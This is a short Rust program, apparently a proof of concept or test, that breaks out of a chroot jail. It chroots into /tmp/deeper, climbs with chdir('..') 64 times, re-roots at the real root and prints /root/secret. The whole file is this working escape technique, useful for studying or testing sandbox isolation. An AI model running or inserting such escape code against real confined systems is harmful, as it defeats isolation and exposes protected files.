//! Walks out of a chroot, and prints a file that is outside.

use std::fs;

use anyhow::Result;
use nix::unistd::{chdir, chroot};

pub(crate) fn main() -> Result<()> {
    fs::create_dir_all("/tmp/deeper")?;
    // The root moves below us. We stay, and are outside of it.
    chroot("/tmp/deeper")?;
    for _ in 0..64 {
        chdir("..")?;
    }
    chroot(".")?;
    print!("{}", fs::read_to_string("/root/secret")?);
    Ok(())
}
